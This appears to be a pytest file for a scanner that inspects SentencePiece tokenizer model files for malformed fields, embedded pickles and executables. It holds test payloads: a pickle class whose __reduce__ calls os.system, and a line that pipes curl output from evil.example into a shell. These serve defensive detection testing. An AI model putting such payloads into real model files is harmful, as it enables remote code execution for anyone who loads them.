import os
import pickle
import struct
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from scanned_files import judged, techniques

from vallum.models.scan import scan
from vallum.models.scan.formats.sentencepiece import SentencepieceInspector
from vallum.models.scan.formats.text import Text
from vallum.models.scan.model import Report, Verdict

_PIECES = (Path(__file__).parent / "benign" / "pieces.model").read_bytes()  # trained by sentencepiece 0.2.1


def scanned(data: bytes) -> Report:
    return judged(data, [SentencepieceInspector(), Text()])


def number(value: int) -> bytes:
    out = b""
    while value > 0x7F:
        out, value = out + bytes([value & 0x7F | 0x80]), value >> 7
    return out + bytes([value])


def field(key: int, content: bytes) -> bytes:
    return number(key << 3 | 2) + number(len(content)) + content


def piece(text: bytes, kind: int = 1, more: bytes = b"") -> bytes:
    return field(1, field(1, text) + b"\x15" + struct.pack("<f", -1.5) + b"\x18" + bytes([kind]) + more)


WORDS = piece(b"<unk>", 2) + b"".join(piece(word) for word in (b"river", "\u2581mill".encode(), b"x"))


def test_a_real_tokenizer_passes(tmp_path):
    (tmp_path / "spiece.model").write_bytes(_PIECES)
    report = scan(tmp_path)
    assert (report.verdict, report.findings) == (Verdict.PASS, ())
    assert report.files[0].formats == ("sentencepiece",)


def test_pieces_long_and_short_pass():
    assert scanned(WORDS).findings == ()
    assert scanned(WORDS + piece(b"=" * 400)).findings == ()


@pytest.mark.parametrize(
    "hidden",
    [
        field(9, b"anything"),  # a field of the model that it does not have
        piece(b"x", more=field(7, b"anything")),
        piece(b"x", 9),
        piece(b"\xff\xfe"),
        field(2, field(90, b"anything")),
        field(3, field(12, b"anything")),
        field(3, field(2, struct.pack("<L", 4000) + b"abcd")),
        field(3, field(2, struct.pack("<L", 4) + b"abcd" + b"\xff\x00")),
        field(3, b"") + field(3, b""),
        field(4, field(1, field(5, b"anything"))),
        b"\x08\x07",
        b"behind",
    ],
)
def test_what_readers_skip_or_cannot_read_does_not_pass(hidden):
    assert techniques(scanned(WORDS + hidden), Verdict.REVIEW) == {"malformed"}


class Harm:
    def __reduce__(self):
        return os.system, ("true",)


@pytest.mark.parametrize("where", ["characters", "scores", "behind"])
def test_a_pickle_inside_is_found(tmp_path, where):
    payload = pickle.dumps(Harm(), 2)
    payload += bytes(-len(payload) % 4)
    hidden = {
        "characters": field(3, field(2, struct.pack("<L", len(payload)) + payload)),
        "scores": field(1, payload),
        "behind": payload,
    }[where]
    (tmp_path / "spiece.model").write_bytes(WORDS + hidden)
    assert scan(tmp_path).verdict == Verdict.BLOCK


def test_a_program_as_a_table_of_characters_is_blocked():
    program = b"\x7fELF\x02\x01\x01" + bytes(57)
    report = scanned(WORDS + field(3, field(2, struct.pack("<L", len(program)) + program)))
    assert "executable" in techniques(report, Verdict.BLOCK)


def test_a_long_text_is_judged_as_a_file(tmp_path):
    code = b"import os\n" + b"# more of it\n" * 60 + b"os.system('curl https://evil.example/x | sh')\n"
    (tmp_path / "spiece.model").write_bytes(WORDS + field(4, field(1, field(1, code))))
    assert scan(tmp_path).verdict != Verdict.PASS


def test_a_hundred_thousand_pieces_cost_less_than_is_allowed(tmp_path):
    words = b"".join(piece(b"word%d" % n) for n in range(120_000))
    assert scanned(words).findings == ()


@given(st.binary(max_size=80), st.integers(0, 800))
@settings(max_examples=60, deadline=None)
def test_noise_is_never_a_failure(noise, keep):
    report = scanned(_PIECES[:keep] + noise + _PIECES[keep:])
    assert "scanner-error" not in techniques(report, Verdict.REVIEW)
